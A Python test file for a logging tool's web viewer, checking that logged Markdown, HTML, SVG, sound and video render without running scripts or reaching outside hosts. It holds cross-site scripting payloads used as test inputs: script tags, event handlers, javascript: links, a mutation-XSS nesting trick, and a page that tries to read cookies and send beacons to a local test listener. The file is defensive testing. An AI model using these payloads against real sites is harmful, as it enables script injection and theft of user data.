"""Texts, Markdown, HTML, sound and films on the page: they are shown, and whatever they hold runs and asks nothing."""

from __future__ import annotations

import elsewhere
import numpy as np
import pytest
import viewed

import steno
import viewer_server
from steno.media.raw import capture_bytes

GOOD = "# Title\n\n**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n[there](https://example.com/page) ![dot](data:image/png;base64,{dot})"
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
EXPECTED = (
    "Content Security Policy",
    "sandbox",
    "ERR_BLOCKED",
    "net::ERR",
    "Blocked",
    "violates",
    "frame",
    "elsewhere",
)


def hostile_markdown(host):
    return f"""
<script>parent.owned = 1; fetch("{host}/script")</script>
<img src=x onerror="window.owned = 2"> <img src="{host}/image">
![picture]({host}/markdown-image) [click](javascript:window.owned=3) [here](api/edit) <a href="vbscript:x">v</a>
<svg><script>window.owned = 4</script><image href="{host}/svg"/></svg>
<iframe src="{host}/frame"></iframe> <object data="{host}/object"></object> <embed src="{host}/embed">
<link rel=stylesheet href="{host}/css"><style>@import url("{host}/import"); body {{ display: none }}</style>
<div style="background: url({host}/style); position: fixed; inset: 0">covers</div>
<form action="{host}/form"><input name=token type=text><button>send</button></form>
<base href="{host}/"> <meta http-equiv=refresh content="0; url={host}/refresh">
<video src="{host}/video" poster="{host}/poster" autoplay></video> <audio src="{host}/audio"></audio>
<p id=page name=token class=trouble onclick="window.owned = 6">named</p> <details open ontoggle="window.owned = 7">d</details>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.owned=5&gt;">
"""


def hostile_page(host):
    return f"""<!doctype html><script>
const say = (text) => document.body.append(text + "; ");
addEventListener("load", () => {{
  say("it runs");
  for (const act of [() => parent.document.title, () => document.cookie, () => localStorage.length, () => top.location = "{host}/top"])
    try {{ say("REACHED " + act()); }} catch {{ say("refused"); }}
  fetch("{host}/fetch").then(() => say("REACHED"), () => say("refused"));
  fetch(location.origin + "/api/runs").then(() => say("REACHED"), () => say("refused"));
  new Image().src = "{host}/image";
  navigator.sendBeacon("{host}/beacon", "x");
  try {{ new WebSocket("{host.replace("http", "ws")}/socket"); }} catch {{}}
  try {{ window.open("{host}/popup"); }} catch {{}}
  document.body.insertAdjacentHTML("beforeend", '<iframe src="{host}/frame"></iframe><link rel=stylesheet href="{host}/css"><form action="{host}/form"></form>');
  try {{ document.forms[0].submit(); }} catch {{}}
  alert("a dialog");
}});
</script><img src="{host}/img"><body>"""


class Drawing:
    """An image whose file is an SVG, as a run of somebody else's may have it."""

    def __init__(self, data):
        self.data = data

    def __steno__(self):
        return capture_bytes("image", {"ext": "svg"}, self.data.encode(), {"ext": "svg"})


def hostile_drawing(host):
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">
<rect width="40" height="40" fill="red" onload="parent.owned = 1"/><script>parent.owned = 2; fetch("{host}/svg")</script>
<image xlink:href="{host}/inner" width="9" height="9"/><style>@import url("{host}/style");</style>
<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{host}/frame"/></foreignObject></svg>"""


@pytest.fixture(scope="module")
def host():
    with elsewhere.listening() as found:
        yield found


@pytest.fixture(scope="module")
def viewer(tmp_path_factory, host):
    place = tmp_path_factory.mktemp("words")
    address, _ = host
    with steno.init(project="p", name="a", dir=str(place)) as run:
        run.log(
            {
                "good": steno.Text(GOOD.format(dot=DOT)),
                "plain": f"<img src={address}/plain onerror=alert(1)> **not bold**",
                "long": steno.Text("x" * 70_000),
                "hostile": steno.Text(hostile_markdown(address)),
                "endless": steno.Text("`" + "`a " * 20_000),
                "page": steno.Html(hostile_page(address), f"<b onclick=alert(1)>{address}</b>"),
                "drawing": Drawing(hostile_drawing(address)),
                "leaver": steno.Html(f'<script>location.href = "{address}/left"</script>'),
                "voice": steno.Audio(np.sin(np.arange(8000) / 10).astype(np.float32), sample_rate=8000),
                "clip": steno.Video(np.zeros((6, 32, 32, 3), np.uint8), fps=6),
                "lost/voice": steno.Audio(np.cos(np.arange(4000) / 9).astype(np.float32), sample_rate=8000),
                "lost/clip": steno.Video(np.full((6, 32, 32, 3), 9, np.uint8), fps=6),
            },
            step=0,
        )
        assert run.finish(120)
    with steno.open(run.dir) as reader:
        for key in ("lost/voice", "lost/clip"):
            reader.media(key)[0].path.write_bytes(b"<script>alert(1)</script>" * 40)
    with viewer_server.viewing(place) as viewer:
        yield viewer


def opened(browse, viewer, key, **options):
    page = browse(f"{viewer.url}#filter=^{key}$", expect=EXPECTED, **options)
    card = page.locator(f'article[data-key="{key}"]')
    card.locator(".content > *").first.wait_for()
    return page, card


def untouched(page, host):
    """Nothing ran in the page, and nobody was asked."""
    page.wait_for_timeout(700)
    assert page.evaluate("window.owned === undefined")
    assert page.evaluate("document.title").endswith("steno")
    assert host[1] == []


def test_markdown_reads_as_markdown(browse, viewer, host):
    page, card = opened(browse, viewer, "good")
    said = card.locator(".markdown")
    said.locator("h1").wait_for()
    assert said.locator("h1").inner_text() == "Title"
    assert said.locator("strong").inner_text() == "bold"
    assert said.locator("td").all_inner_texts() == ["1", "2"]
    assert "☑ done" in said.locator("li").inner_text()
    assert said.locator("img").evaluate("one => one.naturalWidth") == 1
    link = said.get_by_role("link", name="there")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    card.get_by_role("button", name="source").click()
    assert "**bold**" in card.locator("pre").inner_text()
    untouched(page, host)


def test_markdown_holds_nothing_that_runs_loads_or_stands_in_the_way(browse, viewer, host):
    page, card = opened(browse, viewer, "hostile")
    said = card.locator(".markdown")
    said.get_by_text("named").wait_for()
    names = said.evaluate("one => [...new Set([...one.querySelectorAll('*')].map((node) => node.localName))].sort()")
    assert not set(names) & {
        "script",
        "img",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "style",
        "link",
        "form",
        "base",
        "meta",
        "video",
        "audio",
        "div",
        "button",
    }
    kept = said.evaluate(
        "one => [...new Set([...one.querySelectorAll('*')].flatMap((node) => node.getAttributeNames()))]"
    )
    assert not {one for one in kept if one.startswith("on") or one in {"style", "id", "name", "src"}}
    assert said.evaluate(
        "one => [...one.querySelectorAll('a')].every((node) => !node.href || /^(https?|mailto):/.test(node.href))"
    )
    assert "picture: http" in said.inner_text()
    untouched(page, host)


def test_a_text_that_takes_for_ever_is_shown_as_it_was_written(browse, viewer):
    page, card = opened(browse, viewer, "endless")
    card.locator("pre, .markdown :not(:empty)").first.wait_for()
    assert page.evaluate("1 + 1") == 2


def test_texts_are_texts(browse, viewer, host):
    page, card = opened(browse, viewer, "plain")
    assert "**not bold**" in card.locator("pre").inner_text()
    assert card.locator(".content img, .content strong").count() == 0
    untouched(page, host)
    page, card = opened(browse, viewer, "long")
    assert len(card.locator("pre").inner_text()) == 70_000


def test_a_drawing_is_an_image_that_runs_and_asks_nothing(browse, viewer, host):
    page, card = opened(browse, viewer, "drawing")
    page.wait_for_function("() => document.querySelector('.picture img').naturalWidth === 40")
    card.locator(".picture").click()
    page.locator("dialog.zoom .stage img").wait_for()
    untouched(page, host)


@pytest.mark.parametrize("key", ["page", "leaver"])
def test_html_runs_in_a_frame_that_reaches_nobody(browse, viewer, host, key):
    page, card = opened(browse, viewer, key)
    if key == "page":
        frame = page.frame_locator("iframe.page")
        frame.get_by_text("it runs").wait_for()
        page.wait_for_timeout(1500)
        said = frame.locator("body").inner_text()
        assert said.count("refused") >= 5
        assert "REACHED" not in said
        assert "<b onclick" in card.locator(".caption").inner_text()
    untouched(page, host)


def test_sound_and_films_play(browse, viewer):
    page, card = opened(browse, viewer, "voice")
    page.wait_for_function("() => document.querySelector('audio').duration === 1")
    assert "8,000 Hz, 1 channel, 1 s" in card.inner_text()
    page, card = opened(browse, viewer, "clip")
    page.wait_for_function("() => document.querySelector('video').videoWidth === 32")


@pytest.mark.parametrize(("key", "word"), [("lost/voice", "sound"), ("lost/clip", "film")])
def test_damaged_sound_and_films_say_so(browse, viewer, host, key, word):
    page, card = opened(browse, viewer, key)
    card.locator(".broken").wait_for()
    assert f"no {word}" in card.locator(".broken").inner_text()
    untouched(page, host)


def test_nothing_serious_stands_in_the_way(browse, viewer):
    for theme in ("light", "dark"):
        page = browse(
            f"{viewer.url}#filter=good|plain|voice|clip$", color_scheme=theme, bypass_csp=True, expect=EXPECTED
        )
        page.set_viewport_size({"width": 1440, "height": 2000})
        page.locator(".markdown h1").wait_for()
        page.locator("audio, video").first.wait_for()
        # A logged text has its own headings, of whatever level.
        assert viewed.serious(page, but={"heading-order"}) == [], theme
